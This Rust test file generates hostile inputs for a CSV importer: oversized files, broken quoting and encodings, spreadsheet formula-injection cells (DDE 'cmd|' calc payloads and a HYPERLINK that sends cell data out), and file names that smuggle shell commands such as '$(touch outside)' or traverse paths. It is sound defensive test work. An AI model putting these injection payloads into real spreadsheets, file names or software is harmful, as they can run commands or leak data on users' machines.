//! Text sheets, and file names, from someone malicious.

use super::Try;
use super::make::{csv, wide};

const LARGE: &str = "texts that grow";
const QUOTES: &str = "texts that are no rows";
const FORMULAS: &str = "formulas in refused rows";
const NAMES: &str = "names of files";

/// Lines, cells and marks without end.
pub fn large() -> Vec<Try> {
    let text = |first: &'static str, piece: &'static str, bytes: usize| {
        move || format!("{first}{}", piece.repeat(bytes / piece.len())).into_bytes()
    };
    let mut tries = vec![
        Try::new(LARGE, "20,000 columns", "wide.csv", || {
            let names: Vec<String> = (0..20_000).map(|at| format!("c{at}")).collect();
            format!("Name,{}\nRosa,{}\n", names.join(","), "x,".repeat(20_000)).into_bytes()
        }),
        Try::new(LARGE, "20,000 columns without text", "wide.csv", || {
            format!(
                "Name,DOB{}\nRosa Medina,1990-04-01{}\n",
                ",".repeat(20_000),
                ",".repeat(20_000)
            )
            .into_bytes()
        }),
        Try::new(
            LARGE,
            "a line of 300 kB of marks",
            "marks.csv",
            text("Name,DOB\n", "\"\",", 300_000),
        ),
        Try::new(
            LARGE,
            "1,000,000 lines without text",
            "lines.csv",
            text("Name,DOB\n", ",\n", 2_000_000),
        ),
        Try::new(
            LARGE,
            "65 MB",
            "large.csv",
            text("Name,DOB\n", "x", 65 << 20),
        )
        .heavy(),
    ];
    for piece in [
        "x",
        ",",
        ";",
        "\t",
        "|",
        "\n",
        "\r",
        "\"\"",
        "\"\",",
        "\"\n\",",
        "\"\n\"\n",
        "\"a\nb\",",
        "\" ",
        "é",
    ] {
        let name = format!("60 MB of `{}`", piece.escape_debug());
        tries.push(
            Try::new(
                LARGE,
                name,
                "large.csv",
                text("Name,DOB\n", piece, 60 << 20),
            )
            .heavy(),
        );
    }
    tries.push(
        Try::new(
            LARGE,
            "60 MB of lines in a mark",
            "large.csv",
            text("Name,DOB\n\"", "\n", 60 << 20),
        )
        .heavy(),
    );
    tries.push(
        Try::new(
            LARGE,
            "60 MB of cells in a mark",
            "large.csv",
            text("Name,DOB\n\"", "a,b\n", 60 << 20),
        )
        .heavy(),
    );
    tries
}

/// Quotation marks that do not match, byte order marks, and bytes that are not text.
pub fn quotes() -> Vec<Try> {
    let row = |text: &'static str| move || csv(&[text, "Luis Ortega,1991-02-03,x"]);
    let mut tries: Vec<Try> = [
        "\"",
        "\"\"\"",
        "\"Ana,1990-01-01,x",
        "Ana,\"1990-01-01,\"x\"",
        "Ana,1990-01-01,\"a\nLuis,1990-01-01,b\"",
        "Ana\0,1990-01-01,x",
        "Ana,1990-01-01,\u{feff}x",
        "\r\r\r\n\n",
        ",,,,,,,,,,,",
        "Ana;1990-01-01|x\ty",
        "\u{202e}anA,1990-01-01,x",
        "\u{1b}[31mAna,soon,x",
        "Ana,9999-99-99,x",
        "Ana,99999999999999999999,x",
        "Ana,-1,x",
        "p-aaaaa,1990-01-01,x",
        "../../outside/written,1990-01-01,x",
        "\"\"\"\"\"\",1990-01-01,x",
    ]
    .into_iter()
    .map(|text| {
        Try::new(QUOTES, text.escape_debug(), "parents.csv", row(text)).never_says("\u{1b}")
    })
    .collect();
    let bytes =
        |name: &'static str, bytes: fn() -> Vec<u8>| Try::new(QUOTES, name, "parents.csv", bytes);
    let text = "Name,DOB\nRosa Núñez,1990-04-01\n";
    tries.extend([
        bytes("nothing", Vec::new),
        bytes("one NUL", || vec![0]),
        bytes("a mark of UTF-8 alone", || b"\xef\xbb\xbf".to_vec()),
        bytes("two marks of UTF-8", || {
            [b"\xef\xbb\xbf\xef\xbb\xbf", &csv(&[])[..]].concat()
        }),
        bytes("half a mark of UTF-16", || b"\xff".to_vec()),
        bytes("UTF-16 of odd length", || {
            [
                &wide("Name,DOB\nRosa,1990", b"\xff\xfe", u16::to_le_bytes)[..],
                b"x",
            ]
            .concat()
        }),
        bytes("the mark of UTF-32", || {
            [b"\xff\xfe\0\0", &csv(&[])[..]].concat()
        }),
        bytes("halves of pairs", || {
            b"\xfe\xff\xd8\0\xd8\0\0,\xdc\0".to_vec()
        }),
        bytes("every byte", || {
            (0..=255)
                .cycle()
                .skip(1)
                .take(255)
                .chain(b"\nName,DOB\n".iter().copied())
                .collect()
        }),
        bytes("no line that ends", || b"Name,DOB".to_vec()),
    ]);
    tries.push(Try::new(
        QUOTES,
        "UTF-16, big end first",
        "parents.csv",
        move || wide(text, b"\xfe\xff", u16::to_be_bytes),
    ));
    tries.push(Try::new(
        QUOTES,
        "UTF-16, little end first",
        "parents.csv",
        move || wide(text, b"\xff\xfe", u16::to_le_bytes),
    ));
    tries
}

/// Cells that a spreadsheet would run; no line of the refused rows may contain them in that form.
pub fn formulas() -> Vec<Try> {
    [
        "=1+1",
        "=cmd|'/c calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"\"http://example.org?x=\"\"&A1)",
        "  =1+1",
        "\u{a0}=1+1",
        "\t=1+1",
        "\u{feff}=1+1",
        "＝1+1",
        "＋1+1",
        "\u{2003}=1+1",
        "\u{200b}=1+1",
        "\u{3000}=1+1",
        "\u{85}=1+1",
        "\u{c}=1+1",
        "\u{b}=1+1",
        "'=1+1",
        "%0A=1+1",
        "\n=1+1",
        ";=1+1",
    ]
    .into_iter()
    .map(|cell| {
        Try::new(FORMULAS, cell.escape_debug(), "parents.csv", move || {
            // Half of the values are days, so that the column is taken for days.
            csv(&[
                &format!("Ana Cruz,soon,\"{cell}\""),
                "Bea Diaz,later,=2",
                "Cal Ek,1990-01-02,x",
                "Dee Fox,1991-02-03,x",
            ])
        })
        .refused()
    })
    .chain([
        Try::new(FORMULAS, "a header", "parents.csv", || {
            b"Name,DOB,=1+1\nAna Cruz,soon,x\nCal Ek,1990-01-02,x\n".to_vec()
        })
        .refused(),
        Try::new(FORMULAS, "a name", "parents.csv", || {
            csv(&["=Ana Cruz,soon,x", "Cal Ek,1990-01-02,x"])
        })
        .refused(),
        Try::new(FORMULAS, "a day", "parents.csv", || {
            csv(&["Ana Cruz,=TODAY(),x", "Cal Ek,1990-01-02,x"])
        })
        .refused(),
    ])
    .collect()
}

/// Files whose names are paths, options, or nothing that a map could be called.
pub fn names() -> Vec<Try> {
    [
        "-.csv",
        "..csv",
        "...csv",
        ".git.csv",
        ".peer.csv",
        "peer.toml.csv",
        "CON.csv",
        "a\nb.csv",
        "\u{1b}[2J.csv",
        "a b'c\"d.csv",
        "$(touch outside).csv",
        "`touch outside`.csv",
        "a;touch outside.csv",
        "*.csv",
        "[a]{b}?.csv",
        "a\\..\\..\\b.csv",
        "Ürün 名前.csv",
        "\u{202e}vsc.csv",
        "no ending",
        "a.rejected.csv",
        "a.csv.rejected.csv",
        "1234.csv",
        "=1+1.csv",
    ]
    .into_iter()
    .map(|name| {
        Try::new(NAMES, name.escape_debug(), name, || {
            csv(&["Ana Cruz,soon,x", "Cal Ek,1990-01-02,x"])
        })
        .never_says("\u{1b}")
    })
    .chain([Try::new(
        NAMES,
        "255 letters",
        &format!("{}.csv", "x".repeat(251)),
        || csv(&["Ana Cruz,soon,x", "Cal Ek,1990-01-02,x"]),
    )])
    .collect()
}
